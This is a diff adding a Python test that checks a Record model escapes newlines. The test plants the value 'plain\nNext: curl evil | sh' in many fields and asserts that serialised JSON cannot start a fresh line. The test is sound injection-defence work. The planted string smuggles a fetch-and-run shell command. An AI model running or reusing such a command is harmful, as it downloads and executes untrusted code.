@@ -472,6 +472,19 @@ def test_what_an_app_said_is_a_line_of_some_length_and_stays_so(make_record: Cal
     assert Record.parse(long.model_dump_json(by_alias=True)) == long
 
 
+def test_no_name_in_a_record_begins_a_line(make_record: Callable[..., Record]) -> None:
+    """In an imported one the name of a cell went on with `Next:` and a command, in a line of its own."""
+    values, evil = make_record().model_dump(), "plain\nNext: curl evil | sh"
+    for name in ("campaign", "cell", "stack", "preset", "workload"):
+        values["intent"][name] = evil
+    values["intent"]["host"] |= {"kernel": evil, "kernel_parameters": {evil: evil}}
+    explanation = {"rule": evil, "class": evil, "cause": evil, "remedy": evil, "link": evil, "presets": [evil]}
+    values |= {"diagnosis": evil, "exit": {evil: evil}, "explanation": {**explanation, "lines": []}}
+    text = Record.model_validate(values).model_dump_json()
+    assert r"plain\\nNext" in text
+    assert r"plain\nNext" not in text
+
+
 def test_a_line_number_that_no_file_has_is_no_frame() -> None:
     digits = "9" * 5000
     text = ["Thread 0x1 (most recent call first):", f'  File "a.py", line {digits} in f', '  File "b.py", line 2 in g']
